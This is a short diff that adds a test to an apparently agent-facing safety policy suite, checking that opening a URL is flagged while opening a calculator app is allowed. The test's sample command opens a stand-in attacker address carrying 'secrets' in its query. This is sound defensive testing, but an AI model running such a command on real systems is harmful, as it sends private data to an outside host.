@@ -184,3 +184,10 @@ describe('safety policy (fuzz)', () => {
     expect(caught).toBeGreaterThan(4000);
   });
 });
+
+describe('opening a web address', () => {
+  it('asks before opening a URL, not before opening an app', () => {
+    expect(policy.classify({ step: cmd('open "https://evil.example/?q=secrets"') }).matches.map((m) => m.ruleId)).toContain('open-url');
+    expect(policy.classify({ step: cmd('open "gnome-calculator"') }).action).toBe('allow');
+  });
+});
